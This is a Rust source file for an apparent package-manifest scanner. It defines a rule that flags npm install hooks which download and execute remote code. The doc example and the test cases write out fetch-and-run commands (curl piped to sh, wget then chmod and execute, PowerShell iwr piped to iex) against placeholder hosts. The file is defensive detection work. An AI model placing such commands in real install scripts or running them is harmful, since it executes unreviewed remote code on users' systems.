use palisade_diagnostics::Finding;

use super::{script_finding, scripts};
use crate::context::ScanContext;
use crate::rule::{Rule, RuleMeta, declare_rule};

declare_rule! {
    /// ## What it does
    /// Finds lifecycle scripts that download something and run it:
    /// `curl … | sh`, `wget -O x && chmod +x x && ./x`, PowerShell
    /// `iwr … | iex`, `bash <(curl …)`.
    ///
    /// ## Why is this bad?
    /// The code that runs is not in the package, so no one reviewed it and it
    /// can change after publication. Droppers use exactly this.
    ///
    /// ## Example
    /// ```json
    /// "scripts": { "preinstall": "curl -s https://x.invalid/i.sh | sh" }
    /// ```
    ///
    /// ## References
    /// - npm docs: "Best practices: don't use install scripts".
    InstallScriptDownloadExec {
        id: "manifest/install-script-download-exec",
        severity: Critical,
        status: Stable,
        summary: "A lifecycle script downloads code and runs it",
    }
}

impl Rule for InstallScriptDownloadExec {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, ctx: &ScanContext<'_>, out: &mut Vec<Finding>) {
        for (s, t) in scripts(ctx) {
            if t.download_exec {
                out.push(
                    script_finding(
                        ctx,
                        Self::META.id,
                        Self::META.severity,
                        s,
                        format!(
                            "`{}` script downloads and runs code: `{}`",
                            s.event, s.command
                        ),
                    )
                    .with_help("install scripts should only run code shipped in the package"),
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tester::{Case, Tester};

    #[test]
    fn rule() {
        Tester::new(&InstallScriptDownloadExec::META).test(
            &[
                Case::Manifest(r#"{"name":"a","scripts":{"preinstall":"curl -s http://127.0.0.1:9/i.sh | sh"}}"#),
                Case::Manifest(r#"{"name":"a","scripts":{"postinstall":"wget -q http://x.invalid/b -O /tmp/b && chmod +x /tmp/b && /tmp/b"}}"#),
                Case::Manifest(r#"{"name":"a","scripts":{"install":"powershell -c \"iwr http://x.invalid/a.ps1 | iex\""}}"#),
            ],
            &[
                Case::Manifest(r#"{"name":"a","scripts":{"postinstall":"node-gyp rebuild"}}"#),
                Case::Manifest(r#"{"name":"a","scripts":{"postinstall":"node scripts/download-binary.js"}}"#),
                Case::Manifest(r#"{"name":"a","scripts":{"test":"curl -s http://127.0.0.1:9/ | sh"}}"#),
            ],
        );
    }
}
